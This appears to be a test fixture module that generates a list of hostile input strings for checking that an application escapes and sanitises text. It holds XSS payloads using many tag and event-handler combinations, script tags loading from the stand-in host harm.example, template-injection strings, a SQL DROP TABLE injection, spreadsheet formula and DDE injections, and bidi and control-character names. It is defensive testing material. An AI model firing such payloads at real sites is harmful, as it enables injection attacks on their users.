/* Strings that would do something where somebody forgot that they are texts. Each that runs counts `harmed` up, or asks harm.example. */

const RUN = 'globalThis.harmed=(globalThis.harmed||0)+1';
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'embed',
  'math',
  'a',
  'div',
  'style',
];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'onpageshow',
  'onbegin',
];

const elements = TAGS.flatMap((tag) =>
  EVENTS.flatMap((event) => [
    `<${tag} src=x ${event}="${RUN}" autofocus tabindex=1 open>`,
    `"><${tag}/src=x/${event}=${RUN}//`,
    `<${tag.toUpperCase()} SRC=x ${event.toUpperCase()}='${RUN}'>`,
  ]),
);

const scripts = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<script src=//harm.example/x.js></script>`,
  `<link rel=stylesheet href=//harm.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//harm.example">`,
  `<base href=//harm.example/>`,
  `<form action=javascript:${RUN}><input type=submit>`,
  `<a href="javascript:${RUN}">x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `'; DROP TABLE pupils; --`,
  `=HYPERLINK("//harm.example","x")`,
  `=cmd|'/c calc'!A1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1)`,
  `\t=1+1`,
];

const marks = [
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u200f',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u0301'.repeat(40),
  '\ud83d',
  '\u{1f468}\u200d\u{1f469}',
];
const names = ['Noor Visser', 'ريم الحداد', 'Ödön', 'Ze\u0301', 'A'.repeat(300), ' '.repeat(50)];
const odd = marks.flatMap((mark) => names.map((name) => `${mark}${name}${mark}`));

export const HOSTILE: readonly string[] = [...elements, ...scripts, ...odd];
